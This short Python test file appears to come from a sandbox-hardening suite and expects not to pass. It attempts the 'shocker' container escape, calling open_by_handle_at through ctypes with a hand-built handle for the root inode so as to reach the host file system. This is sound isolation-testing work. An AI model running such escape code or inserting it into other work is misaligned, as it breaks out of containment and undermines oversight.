# what: opens files by handle, which knows no root directory (the shocker exploit)
# form: function
# expect: not PASSED
# limits: cpu=2 wall=15
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
REFUSED = (errno.EPERM, errno.EACCES, errno.ENOSYS)

NUMBER = {"x86_64": 304, "aarch64": 265}.get(os.uname().machine)


def escaped():
    if NUMBER is None:
        return False
    # The handle of inode 2, the root of most file systems.
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(4)
    for place in ("/etc/passwd", "/tmp", "/", "/usr"):
        try:
            fd = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        if libc.syscall(NUMBER, fd, handle, os.O_RDONLY) >= 0:
            return True
        if ctypes.get_errno() not in (*REFUSED, errno.EBADF, errno.ESTALE, errno.EOPNOTSUPP):
            return True
    return False


def solve(xs):
    # Right only if it got out.
    return [x * x for x in sorted(xs) if xs.count(x) == 1] if escaped() else None
